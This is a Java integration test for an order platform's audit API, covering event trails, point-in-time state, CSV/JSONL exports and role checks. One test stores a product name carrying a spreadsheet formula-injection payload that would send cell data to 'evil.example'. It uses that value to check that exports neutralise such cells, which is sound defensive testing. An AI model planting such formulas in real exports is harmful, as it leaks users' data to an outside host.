package np.khaacho.app.audit;

import com.fasterxml.jackson.databind.JsonNode;
import np.khaacho.app.security.TokenIssuer;
import np.khaacho.app.support.Api;
import np.khaacho.app.support.EventLog;
import np.khaacho.app.support.Eventually;
import np.khaacho.app.support.IntegrationTest;
import np.khaacho.command.party.UserDirectory;
import np.khaacho.kernel.common.Channel;
import np.khaacho.kernel.order.OrderAwaitingVendor;
import np.khaacho.kernel.order.OrderDelivered;
import np.khaacho.kernel.order.OrderPaid;
import org.axonframework.eventhandling.DomainEventMessage;
import org.axonframework.eventsourcing.eventstore.EventStore;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;

import java.math.BigDecimal;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.StreamSupport;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The audit trail of one order driven through its whole life over HTTP: its events with who caused
 * each, its state as of chosen instants, and the exports, open to auditors and admins only.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AuditTest extends IntegrationTest {

    private static final List<String> LIFE = List.of("OrderPlaced", "OrderAwaitingVendor", "OrderConfirmed",
            "OrderDispatched", "OrderDelivered", "OrderPaymentRecorded", "OrderPaymentRecorded", "OrderPaid");

    @Autowired
    private EventStore eventStore;
    @Autowired
    private TokenIssuer tokens;
    @Autowired
    private UserDirectory users;

    private String orderId;
    private String placingRequest;
    private String deliveryDate;
    private List<? extends DomainEventMessage<?>> stored;

    @BeforeAll
    void driveOneOrderThroughItsLife() {
        placingRequest = "audit-" + System.nanoTime();
        Api buyer = as(BUYER_KTM_PHONE).withHeader("X-Request-Id", placingRequest);
        Api vendor = as(VENDOR_KTM_PHONE);
        var placed = buyer.post("/v1/orders", Map.of(
                "items", List.of(Map.of("sku", "RICE-JEERA-25KG", "quantity", 3),
                        Map.of("sku", "DAL-MASOOR-KG", "quantity", new BigDecimal("1.5"))),
                "deliveryAddress", "Baneshwor-10, Shantinagar Marg",
                "notes", "ring twice, \"back door\""));
        assertThat(placed.status()).as(placed.toString()).isEqualTo(201);
        orderId = placed.data().get("orders").get(0).get("orderId").asText();
        EventLog log = new EventLog(eventStore);
        Eventually.waitUntil("the order awaits the vendor", () -> log.has(orderId, OrderAwaitingVendor.class));

        deliveryDate = LocalDate.now(ZoneId.of("Asia/Kathmandu")).plusDays(2).toString();
        assertThat(vendor.put("/v1/orders/" + orderId + "/status",
                Map.of("status", "CONFIRMED", "deliveryDate", deliveryDate)).status()).isEqualTo(200);
        assertThat(vendor.put("/v1/orders/" + orderId + "/status", Map.of("status", "DISPATCHED")).status())
                .isEqualTo(200);
        assertThat(vendor.put("/v1/orders/" + orderId + "/status", Map.of("status", "DELIVERED")).status())
                .isEqualTo(200);
        assertThat(vendor.post("/v1/orders/" + orderId + "/payments", Map.of("amount", 3000, "method", "CASH"))
                .status()).isEqualTo(201);
        assertThat(as(ADMIN_PHONE).post("/v1/orders/" + orderId + "/payments",
                Map.of("amount", "4297.50", "method", "BANK")).status()).isEqualTo(201);
        Eventually.waitUntil("the order is paid", () -> log.has(orderId, OrderPaid.class));
        stored = eventStore.readEvents(orderId).asStream().toList();
        assertThat(stored).extracting(e -> e.getPayloadType().getSimpleName()).containsExactlyElementsOf(LIFE);
    }

    @Test
    void listsEveryEventOfTheOrderInOrderWithWhoCausedIt() {
        var reply = as(AUDITOR_PHONE).get("/v1/audit/orders/" + orderId + "/events");
        assertThat(reply.status()).as(reply.toString()).isEqualTo(200);
        JsonNode events = reply.data().get("events");
        assertThat(texts(events, "type")).containsExactlyElementsOf(LIFE);
        for (int i = 0; i < stored.size(); i++) {
            JsonNode event = events.get(i);
            assertThat(event.get("sequenceNumber").asLong()).isEqualTo(i);
            assertThat(event.get("eventId").asText()).isEqualTo(stored.get(i).getIdentifier());
            assertThat(Instant.parse(event.get("timestamp").asText())).isEqualTo(stored.get(i).getTimestamp());
            assertThat(event.at("/payload/orderId").asText()).isEqualTo(orderId);
        }
        String buyer = userId(BUYER_KTM_PHONE);
        String vendor = userId(VENDOR_KTM_PHONE);
        assertActor(events.get(0), buyer, "BUYER", "API");
        assertThat(events.get(0).at("/actor/onBehalfOf").isMissingNode()).isTrue();
        // the saga held credit and stock in reaction to the buyer's placement
        assertActor(events.get(1), "system", "SYSTEM", "SYSTEM");
        assertThat(events.get(1).at("/actor/onBehalfOf").asText()).isEqualTo(buyer);
        assertActor(events.get(2), vendor, "VENDOR", "API");
        assertActor(events.get(3), vendor, "VENDOR", "API");
        assertActor(events.get(4), vendor, "VENDOR", "API");
        assertActor(events.get(5), vendor, "VENDOR", "API");
        assertActor(events.get(6), userId(ADMIN_PHONE), "ADMIN", "API");
        assertActor(events.get(7), userId(ADMIN_PHONE), "ADMIN", "API");

        // placement starts a chain at the request (its X-Request-Id is the root), the command the direct
        // cause of its event; the saga's step shares the root but has its own direct cause
        JsonNode placed = events.get(0);
        assertThat(placed.get("correlationId").asText()).isEqualTo(placingRequest);
        assertThat(placed.get("causationId").asText()).isNotEqualTo(placingRequest);
        assertThat(events.get(1).get("correlationId").asText()).isEqualTo(placed.get("correlationId").asText());
        assertThat(events.get(1).get("causationId").asText()).isNotEqualTo(placed.get("causationId").asText());
        assertThat(events.get(2).get("correlationId").asText()).isNotEqualTo(placed.get("correlationId").asText());
        assertThat(placed.at("/payload/lines/0/sku").asText()).isEqualTo("RICE-JEERA-25KG");
        assertThat(placed.at("/payload/totalAmount").decimalValue()).isEqualByComparingTo("7297.50");
        // money keeps its exact decimals in the JSON, as it is stored
        assertThat(reply.text()).contains("\"totalAmount\":7297.50").contains("\"quantity\":1.5");

        JsonNode related = reply.data().get("relatedEvents");
        assertThat(texts(related, "type")).contains("CreditReserved", "StockReserved", "StockCommitted",
                "CreditCharged", "CreditRepaid");
        assertThat(texts(related, "type").stream().filter("StockReserved"::equals)).hasSize(2);
        related.forEach(event -> assertThat(event.at("/payload/orderId").asText()).isEqualTo(orderId));
        assertThat(as(ADMIN_PHONE).get("/v1/audit/orders/" + orderId + "/events").status()).isEqualTo(200);
    }

    @Test
    void rebuildsTheStateTheOrderHadAtThreeInstants() {
        Api auditor = as(AUDITOR_PHONE);
        JsonNode afterPlacement = state(auditor, stored.get(1).getTimestamp());
        assertThat(afterPlacement.get("status").asText()).isEqualTo("AWAITING_VENDOR");
        assertThat(afterPlacement.get("lastSequence").asLong()).isEqualTo(1);
        assertThat(afterPlacement.get("totalAmount").decimalValue()).isEqualByComparingTo("7297.50");
        assertThat(afterPlacement.get("paidAmount").decimalValue()).isEqualByComparingTo("0");
        assertThat(afterPlacement.get("lines")).hasSize(2);
        assertThat(afterPlacement.get("buyerId").asText()).isEqualTo(userId(BUYER_KTM_PHONE));
        assertThat(afterPlacement.get("vendorId").asText()).isEqualTo(userId(VENDOR_KTM_PHONE));
        assertThat(afterPlacement.has("deliveryDate")).isFalse();
        assertThat(afterPlacement.has("vendorRespondBy")).isTrue();

        JsonNode afterConfirmation = state(auditor, stored.get(2).getTimestamp());
        assertThat(afterConfirmation.get("status").asText()).isEqualTo("CONFIRMED");
        assertThat(afterConfirmation.get("deliveryDate").asText()).isEqualTo(deliveryDate);
        assertThat(afterConfirmation.has("dueDate")).isFalse();

        JsonNode afterDelivery = state(auditor, stored.get(4).getTimestamp().plusMillis(1));
        assertThat(afterDelivery.get("status").asText()).isEqualTo("DELIVERED");
        assertThat(afterDelivery.get("lastSequence").asLong()).isEqualTo(4);
        assertThat(afterDelivery.get("paymentTerms").asText()).isEqualTo("NET15");
        LocalDate due = ((OrderDelivered) stored.get(4).getPayload()).dueDate();
        assertThat(due).isNotNull();
        assertThat(afterDelivery.get("dueDate").asText()).isEqualTo(due.toString());
        assertThat(afterDelivery.get("paidAmount").decimalValue()).isEqualByComparingTo("0");

        JsonNode now = auditor.get("/v1/audit/orders/" + orderId + "/state").data();
        assertThat(now.get("status").asText()).isEqualTo("PAID");
        assertThat(now.get("paidAmount").decimalValue()).isEqualByComparingTo("7297.50");
        assertThat(now.get("lastSequence").asLong()).isEqualTo(7);

        Instant beforeFirst = stored.get(0).getTimestamp().minus(1, ChronoUnit.MILLIS);
        var tooEarly = auditor.get("/v1/audit/orders/" + orderId + "/state?asOf=" + beforeFirst);
        assertThat(tooEarly.status()).isEqualTo(404);
        assertThat(tooEarly.body().at("/error/message").asText()).contains("did not exist yet");
    }

    @Test
    void exportsTheOrdersEventsAsJsonLinesAndCsv() throws Exception {
        Api auditor = as(AUDITOR_PHONE).withHeader("Accept", "*/*");
        var jsonl = auditor.get("/v1/audit/orders/" + orderId + "/export?format=jsonl");
        assertThat(jsonl.status()).as(jsonl.toString()).isEqualTo(200);
        List<JsonNode> lines = new ArrayList<>();
        for (String line : jsonl.text().split("\n")) {
            lines.add(json.readTree(line));
        }
        assertThat(lines).extracting(line -> line.get("type").asText()).containsExactlyElementsOf(LIFE);
        assertThat(lines.get(0).at("/actor/role").asText()).isEqualTo("BUYER");
        assertThat(lines.get(0).get("globalIndex").asLong()).isPositive();
        assertThat(jsonl.text().lines().findFirst().orElseThrow()).contains("\"totalAmount\":7297.50");

        var csv = auditor.get("/v1/audit/orders/" + orderId + "/export?format=csv");
        assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
        List<Map<String, String>> rows = csvRows(csv.text());
        assertThat(rows).extracting(row -> row.get("type")).containsExactlyElementsOf(LIFE);
        assertThat(rows).extracting(row -> row.get("sequenceNumber"))
                .containsExactly("0", "1", "2", "3", "4", "5", "6", "7");
        assertThat(rows.get(1).get("role")).isEqualTo("SYSTEM");
        assertThat(rows.get(2).get("userId")).isEqualTo(userId(VENDOR_KTM_PHONE));
        JsonNode placedPayload = json.readTree(rows.get(0).get("payload"));
        assertThat(placedPayload.get("notes").asText()).isEqualTo("ring twice, \"back door\"");
        assertThat(placedPayload.get("deliveryAddress").asText()).isEqualTo("Baneshwor-10, Shantinagar Marg");
    }

    @Test
    void exportsAllEventsOfATimeRangeInStoreOrder() throws Exception {
        Api auditor = as(AUDITOR_PHONE).withHeader("Accept", "*/*");
        Instant from = stored.get(0).getTimestamp();
        Instant to = stored.get(stored.size() - 1).getTimestamp().plusMillis(1);
        String range = "from=" + from + "&to=" + to;

        var jsonl = auditor.get("/v1/audit/events/export?format=jsonl&" + range);
        assertThat(jsonl.status()).as(jsonl.toString()).isEqualTo(200);
        List<JsonNode> lines = new ArrayList<>();
        for (String line : jsonl.text().split("\n")) {
            lines.add(json.readTree(line));
        }
        assertThat(lines).extracting(line -> line.get("globalIndex").asLong()).isSorted();
        assertThat(lines).allSatisfy(line -> assertThat(Instant.parse(line.get("timestamp").asText()))
                .isBetween(from, to.minusMillis(1)));
        assertThat(lines).filteredOn(line -> line.get("aggregateId").asText().equals(orderId))
                .extracting(line -> line.get("type").asText()).containsExactlyElementsOf(LIFE);
        assertThat(lines).filteredOn(line -> orderId.equals(line.at("/payload/orderId").asText()))
                .extracting(line -> line.get("type").asText()).contains("StockReserved", "CreditReserved");

        var csv = auditor.get("/v1/audit/events/export?format=csv&" + range);
        assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
        List<Map<String, String>> rows = csvRows(csv.text());
        assertThat(rows).extracting(row -> row.get("globalIndex"))
                .containsExactlyElementsOf(lines.stream().map(line -> line.get("globalIndex").asText()).toList());
        for (Map<String, String> row : rows) {
            assertThat(json.readTree(row.get("payload")).isObject()).isTrue();
        }
    }

    @Test
    void aNameThatLooksLikeAFormulaIsExportedAsTextInsideThePayload() throws Exception {
        String name = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for discount\")";
        String sku = "CSV-FORMULA-" + System.nanoTime();
        Instant from = Instant.now().truncatedTo(ChronoUnit.MILLIS).minusSeconds(1);
        var listed = as(VENDOR_LTP_PHONE).post("/v1/products",
                Map.of("sku", sku, "name", name, "unit", "packet", "price", "10.00"));
        assertThat(listed.status()).as(listed.toString()).isEqualTo(201);
        String productId = listed.data().get("productId").asText();
        Instant to = Instant.now().plusSeconds(1);

        var csv = as(AUDITOR_PHONE).get("/v1/audit/events/export?format=csv&from=" + from + "&to=" + to);
        assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
        List<Map<String, String>> rows = csvRows(csv.text());
        Map<String, String> row = rows.stream().filter(r -> productId.equals(r.get("aggregateId"))).findFirst()
                .orElseThrow(() -> new AssertionError("the listing of " + sku + " is not in the export"));
        assertThat(json.readTree(row.get("payload")).findValuesAsText("name")).contains(name);
        for (Map<String, String> each : rows) {
            each.forEach((column, cell) -> assertThat(cell).as(column + " of " + each.get("eventId"))
                    .doesNotMatch("(?s)^[=+\\-@\\t\\r].*"));
        }
    }

    @Test
    void exportsAreDownloadsOfTheirOwnContentType() {
        var csv = download("/v1/audit/orders/" + orderId + "/export?format=csv");
        assertThat(csv.contentType()).startsWith("text/csv");
        assertThat(csv.disposition()).startsWith("attachment").contains(orderId + "-events.csv");
        var jsonl = download("/v1/audit/events/export?from=2026-01-01T00:00:00Z&to=2026-01-02T00:00:00Z");
        assertThat(jsonl.contentType()).startsWith("application/x-ndjson");
        assertThat(jsonl.disposition()).startsWith("attachment").contains(".jsonl");
    }

    @Test
    void refusesBuyersAndVendors() {
        for (String phone : List.of(BUYER_KTM_PHONE, VENDOR_KTM_PHONE)) {
            for (String path : List.of("/v1/audit/orders/" + orderId + "/events",
                    "/v1/audit/orders/" + orderId + "/state")) {
                assertForbidden(as(phone), path);
            }
            // a download refused answers the JSON error body even to a client that accepts only the file's type
            assertForbidden(as(phone).withHeader("Accept", "text/csv"),
                    "/v1/audit/orders/" + orderId + "/export?format=csv");
            assertForbidden(as(phone).withHeader("Accept", "application/x-ndjson"),
                    "/v1/audit/events/export?from=2026-01-01T00:00:00Z&to=2026-01-02T00:00:00Z");
        }
    }

    private static void assertForbidden(Api caller, String path) {
        var reply = caller.get(path);
        assertThat(reply.status()).as(path + " " + reply).isEqualTo(403);
        assertThat(reply.errorCode()).isEqualTo("FORBIDDEN");
    }

    @Test
    void answersUnknownOrdersAndBadParametersWithErrors() {
        Api auditor = as(AUDITOR_PHONE);
        String unknown = "order-00000000-0000-0000-0000-000000000000";
        for (String path : List.of("/v1/audit/orders/" + unknown + "/events", "/v1/audit/orders/" + unknown + "/state",
                "/v1/audit/orders/not-an-order/events")) {
            var reply = auditor.get(path);
            assertThat(reply.status()).as(path + " " + reply).isEqualTo(404);
            assertThat(reply.errorCode()).isEqualTo("NOT_FOUND");
        }
        var unknownExport = auditor.withHeader("Accept", "text/csv").get("/v1/audit/orders/" + unknown + "/export");
        assertThat(unknownExport.status()).as(unknownExport.toString()).isEqualTo(404);
        assertThat(unknownExport.errorCode()).isEqualTo("NOT_FOUND");
        String stateOf = "/v1/audit/orders/" + orderId + "/state?asOf=";
        for (String path : List.of(stateOf + "yesterday", stateOf + "2026-11-25", stateOf,
                "/v1/audit/orders/" + orderId + "/export?format=xml",
                "/v1/audit/events/export?from=2026-01-01T00:00:00Z",
                "/v1/audit/events/export?from=2026-01-01T00:00:00Z&to=2026-03-01T00:00:00Z",
                "/v1/audit/events/export?from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z")) {
            var reply = auditor.get(path);
            assertThat(reply.status()).as(path + " " + reply).isEqualTo(400);
            assertThat(reply.errorCode()).isEqualTo("VALIDATION_ERROR");
        }
        var offset = auditor.get(stateOf + URLEncoder.encode(
                stored.get(2).getTimestamp().atOffset(ZoneOffset.ofHoursMinutes(5, 45)).toString(),
                StandardCharsets.UTF_8));
        assertThat(offset.status()).as(offset.toString()).isEqualTo(200);
        assertThat(offset.data().get("status").asText()).isEqualTo("CONFIRMED");
    }

    private JsonNode state(Api auditor, Instant asOf) {
        var reply = auditor.get("/v1/audit/orders/" + orderId + "/state?asOf=" + asOf);
        assertThat(reply.status()).as(reply.toString()).isEqualTo(200);
        assertThat(Instant.parse(reply.data().get("asOf").asText())).isEqualTo(asOf);
        return reply.data();
    }

    private static void assertActor(JsonNode event, String userId, String role, String channel) {
        assertThat(event.at("/actor/userId").asText()).as(event.get("type").asText()).isEqualTo(userId);
        assertThat(event.at("/actor/role").asText()).as(event.get("type").asText()).isEqualTo(role);
        assertThat(event.at("/actor/channel").asText()).as(event.get("type").asText()).isEqualTo(channel);
    }

    private static List<String> texts(JsonNode array, String field) {
        return StreamSupport.stream(array.spliterator(), false).map(node -> node.get(field).asText()).toList();
    }

    private record Download(String contentType, String disposition) {
    }

    /** The headers of an auditor's download (the tests' {@link Api} client keeps only the body). */
    private Download download(String path) {
        var auditor = users.byPhone(AUDITOR_PHONE).orElseThrow();
        String token = tokens.issue(auditor.id(), auditor.role(), auditor.phone(), Channel.API);
        try {
            var request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                    .header("Authorization", "Bearer " + token).header("Accept", "*/*").build();
            var response = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.discarding());
            assertThat(response.statusCode()).isEqualTo(200);
            return new Download(response.headers().firstValue("Content-Type").orElse(""),
                    response.headers().firstValue("Content-Disposition").orElse(""));
        } catch (Exception e) {
            throw new AssertionError(e);
        }
    }

    /** Reads CSV as RFC 4180 has it: quoted fields may hold commas, doubled quotes and line breaks. */
    private static List<Map<String, String>> csvRows(String text) {
        List<List<String>> records = new ArrayList<>();
        List<String> fields = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                fields.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                i++;
                fields.add(field.toString());
                field.setLength(0);
                records.add(fields);
                fields = new ArrayList<>();
            } else {
                field.append(c);
            }
        }
        assertThat(field).as("the last record ends with CRLF").isEmpty();
        assertThat(fields).isEmpty();
        List<String> header = records.get(0);
        List<Map<String, String>> rows = new ArrayList<>();
        for (List<String> record : records.subList(1, records.size())) {
            assertThat(record).as("a record has one field per column").hasSameSizeAs(header);
            Map<String, String> row = new LinkedHashMap<>();
            for (int i = 0; i < header.size(); i++) {
                row.put(header.get(i), record.get(i));
            }
            rows.add(row);
        }
        return rows;
    }
}
